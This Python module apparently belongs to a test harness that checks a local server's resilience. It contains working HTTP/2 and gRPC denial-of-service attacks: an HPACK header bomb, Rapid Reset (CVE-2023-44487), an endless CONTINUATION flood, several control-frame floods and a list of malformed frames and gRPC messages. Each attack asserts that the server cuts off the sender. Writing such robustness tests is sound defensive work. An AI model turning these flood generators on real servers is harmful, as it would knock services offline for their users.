"""Attacks by frames of HTTP/2 that cost their sender little, and on the door of gRPC."""

import struct

import frames
import swarm
from scene import Attack

GRPC = ("--grpc", "127.0.0.1:0")
BATCH = 1000  # frames sent at once
ANSWER_S = 0.5  # to the last of a few bad frames, on a busy machine


def header_bomb(scene):
    """A header of 4 KB, named again by one byte 16,000 times in each frame."""
    bomb = frames.kept(b"x", b"a" * 3900)

    def pieces(_number):
        yield frames.hello() + frames.request(1, rest=bomb)
        for stream in range(3, 1 << 20, 2):
            yield frames.request(stream, rest=frames.NEWEST * 16_000)
    tally = swarm.flood(scene, 4, pieces, again=True)
    scene.note(f"{tally.sent / 1e6:.1f} MB sent, {tally.closed} closed")
    scene.claim_in_time(tally.closed > 0, "the sender of the bombs was never cut off")


def rapid_reset(scene):
    """CVE-2023-44487: streams that their client gives up at once."""
    def pieces(_number):
        yield frames.hello()
        for first in range(1, 1 << 30, 2 * BATCH):
            yield b"".join(frames.request(first + 2 * n) + frames.reset(first + 2 * n)
                           for n in range(BATCH))
    tally = swarm.flood(scene, scene.some(20), pieces, again=True)
    scene.claim_in_time(tally.closed > 0, "nobody who resets streams without end was cut off")
    scene.note(f"{tally.closed} closed")


def endless_headers(scene):
    """CVE-2024-27316 and its like: CONTINUATION frames without an end."""
    def pieces(_number):
        yield frames.hello() + frames.request(1, flags=frames.END_STREAM)
        field = frames.literal(b"x" * 30, b"y" * 100)
        while True:
            yield frames.frame(frames.CONTINUATION, field * 100, stream=1)
    tally = swarm.flood(scene, scene.some(20), pieces, again=True)
    scene.claim_in_time(tally.closed > 0, "a head without an end was read on and on")
    scene.note(f"{tally.closed} closed")


def flood_of(*batch, first=b""):
    """Frames that want an answer, or none, from peers that read nothing."""
    def act(scene):
        data = b"".join(batch) * BATCH

        def pieces(_number):
            yield frames.hello() + first
            while True:
                yield data
        tally = swarm.flood(scene, scene.some(50), pieces, reads=False, again=True)
        scene.note(f"{tally.sent / 1e6:.1f} MB sent, {tally.closed} closed")
    return act


def bad_frames(scene):
    """Each of these costs its connection, and no more."""
    zero_increment = frames.frame(frames.WINDOW_UPDATE, struct.pack(">I", 0))
    overflow = frames.frame(frames.WINDOW_UPDATE, struct.pack(">I", 0x7fffffff)) * 2
    cases = {
        "no preface": frames.frame(frames.SETTINGS),
        "a frame longer than allowed": frames.hello() + frames.frame(
            frames.DATA, b"x" * (frames.FRAME_MAX + 1), stream=1),
        "a length that nothing fills": frames.hello() + b"\xff\xff\xff\x00\x00\0\0\0\1",
        "DATA on stream 0": frames.hello() + frames.frame(frames.DATA, b"x"),
        "HEADERS on an even stream": frames.hello() + frames.request(2),
        "a stream opened twice": frames.hello() + frames.request(1) * 2,
        "CONTINUATION of nothing": frames.hello() + frames.frame(frames.CONTINUATION, b"", 4, 1),
        "HPACK that ends in the middle": frames.hello() + frames.frame(
            frames.HEADERS, b"\x40\x7f", 5, 1),
        "an index that is not there": frames.hello() + frames.frame(
            frames.HEADERS, b"\xff\xff\xff\xff\x7f", 5, 1),
        "a table larger than allowed": frames.hello() + frames.frame(
            frames.HEADERS, frames.integer(1 << 28, 5, 0x20), 5, 1),
        "PUSH_PROMISE by a client": frames.hello() + frames.frame(frames.PUSH, b"\0\0\0\2", 4, 1),
        "PING of 7 bytes": frames.hello() + frames.frame(frames.PING, b"1234567"),
        "SETTINGS of 5 bytes": frames.hello() + frames.frame(frames.SETTINGS, b"12345"),
        "SETTINGS with a window of 2^32 - 1": frames.hello(window=0xffffffff),
        "a window that grows by nothing": frames.hello() + zero_increment,
        "a window beyond 2^31": frames.hello() + overflow,
        "padding longer than the frame": frames.hello() + frames.frame(
            frames.HEADERS, b"\xff", 0x8 | 5, 1),
    }
    for name, data in cases.items():
        tally = swarm.flood(scene.moment(ANSWER_S), 1, swarm.once(data))
        scene.claim(tally.closed or says_error(tally.heard), f"{name}: no error came")


def says_error(heard):
    """Whether there is a GOAWAY or a RST_STREAM among the frames that came."""
    while len(heard) >= 9:
        if heard[3] in (frames.GOAWAY, frames.RST_STREAM):
            return True
        heard = heard[9 + int.from_bytes(heard[:3], "big"):]
    return False


def bad_grpc(scene):
    """Messages that no gRPC client sends."""
    port = scene.weir.port_of("grpc")
    long_prefix = struct.pack(">BI", 0, 0xffffffff)
    messages = [long_prefix, long_prefix + b"x" * 100, struct.pack(">BI", 1, 4) + b"gzip",
                struct.pack(">BI", 0, 10) + b"short", b"", b"\0", struct.pack(">BI", 9, 0),
                struct.pack(">BI", 0, 4) + b"\xff\xff\xff\xff",  # not protobuf
                struct.pack(">BI", 0, 7) + b"\x12\xff\xff\xff\xff\x0f\x00",  # 4 GiB of descriptor
                struct.pack(">BI", 0, 0) * 2]
    calls = b"".join(frames.grpc_call(2 * n + 1, body) for n, body in enumerate(messages))
    methods = b"".join(frames.grpc_call(101 + 2 * n, b"\0\0\0\0\0", path) for n, path in enumerate(
        (b"/", b"//", b"/grpc.health.v1.Health/Nothing", b"/a/b/c/d", b"/" + b"x" * 8000)))
    tally = swarm.flood(scene.moment(ANSWER_S), scene.some(20),
                        swarm.once(frames.hello() + calls + methods), port=port)
    scene.claim_in_time(tally.received > 0, "the door of gRPC says nothing")
    swarm.flood(scene, scene.some(50), swarm.once(frames.hello() + b"".join(
        frames.grpc_call(2 * n + 1, struct.pack(">BI", 0, 4 << 20) + b"x" * 2000)
        for n in range(BATCH))), port=port, again=True)


PING = frames.frame(frames.PING, b"12345678")
WINDOW = frames.frame(frames.WINDOW_UPDATE, struct.pack(">I", 1))
EMPTY = frames.frame(frames.DATA, b"", stream=1)

ATTACKS = [
    Attack("HPACK bomb: one byte stands for 4 KB", header_bomb),
    Attack("rapid reset", rapid_reset),
    Attack("CONTINUATION without an end", endless_headers),
    Attack("a flood of PING", flood_of(PING)),
    Attack("a flood of SETTINGS", flood_of(frames.frame(frames.SETTINGS))),
    Attack("floods of WINDOW_UPDATE and PRIORITY",
           flood_of(WINDOW, frames.frame(frames.PRIORITY, b"\0\0\0\3\1", stream=1))),
    Attack("a flood of empty DATA", flood_of(
        EMPTY, first=frames.request(1, b"POST", b"/check", flags=frames.END_HEADERS))),
    Attack("bad frames of HTTP/2", bad_frames),
    Attack("bad frames of gRPC", bad_grpc, GRPC),
]
